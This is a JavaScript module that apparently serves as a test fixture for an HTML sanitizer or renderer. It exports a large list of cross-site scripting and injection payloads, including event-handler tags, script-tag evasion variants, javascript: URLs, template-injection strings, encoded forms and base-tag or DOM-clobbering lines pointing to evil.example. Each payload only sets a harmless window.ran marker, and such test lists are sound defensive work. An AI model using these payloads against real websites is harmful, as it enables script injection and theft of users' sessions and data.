// Hostile text: markup, scripts, addresses and templates that set `window.ran` where they run.
const RUN = 'window.ran=1';
const IMAGE = '<img src=x onerror=window.ran=1>';
/** A tag and the attribute that runs in it, one after the other. */
const TAGS = [
  'img src=x onerror, svg onload, body onload, iframe onload, video src=x onerror, audio src=x onerror, style onload',
  'input autofocus onfocus, select autofocus onfocus, textarea autofocus onfocus, details open ontoggle, marquee onstart',
  'object data=x onerror, embed src=x onerror, link rel=stylesheet href=x onerror, math onmouseover',
  'keygen autofocus onfocus, a tabindex=0 autofocus onfocus, video><source onerror, picture><img src=x onerror',
].flatMap((tags) => tags.split(', '));
const WRAPS = [(tag) => `<${tag}="${RUN}">`, (tag) => `"><${tag}=${RUN}>`, (tag) => `'><${tag}='${RUN}'//`];
export const PAYLOADS = [
  ...TAGS.flatMap((tag) => WRAPS.map((wrap) => wrap(tag))),
  ...['script', 'SCRIPT', 'scr\u0000ipt', 'script ', 'script/x', 'script\n'].flatMap((tag) => [
    `<${tag}>${RUN}</script>`,
    `</textarea><${tag}>${RUN}</script>`,
    `--><${tag}>${RUN}</script>`,
    `]]><${tag}>${RUN}</script>`,
  ]),
  ...'javascript,JaVaScRiPt,java\tscript,java\nscript, javascript,\u0001javascript,javascript&colon;,vbscript'
    .split(',')
    .map((scheme) => `${scheme}:${RUN}`),
  `data:text/html,<script>${RUN}</script>`,
  ...['${', '{{', '#{', '<%=', '{%', '[[', '@(', '*{'].map((open) => `${open}constructor.constructor('${RUN}')()}}`),
  ...['</title>', '</style>', '<math><mtext></math>', '<template>', '\u202e'].map((before) => before + IMAGE),
  `<noscript><p title="</noscript>${IMAGE}">`,
  '<svg><script>window.ran=1</script></svg>',
  '<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>',
  '<form><button formaction=javascript:window.ran=1>x',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:window.ran=1">',
  '<b id=page>x</b>',
  '<x id=settings>{"endpoint":"https://evil.example"}</x>',
  '&lt;img src=x onerror=window.ran=1&gt;',
  '&#60;script&#62;window.ran=1&#60;/script&#62;',
  '%3Cscript%3Ewindow.ran=1%3C/script%3E',
  '\\u003cscript\\u003ewindow.ran=1',
  '<<script>window.ran=1//<</script>',
  '<img src=`x` onerror=`window.ran=1`>',
  '<img/src=x/onerror=window.ran=1>',
  '<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml,<svg id=x onload=window.ran=1>#x"/></svg>',
  '"><!--',
  ...["'", '"'].map((quote) => `${quote};window.ran=1;//`),
  ...['__proto__', 'constructor', 'toString'],
  'https://evil.example/?<script>',
  '<isindex type=image src=x onerror=window.ran=1>',
  '<a href="javascript:window.ran=1">x</a>',
];
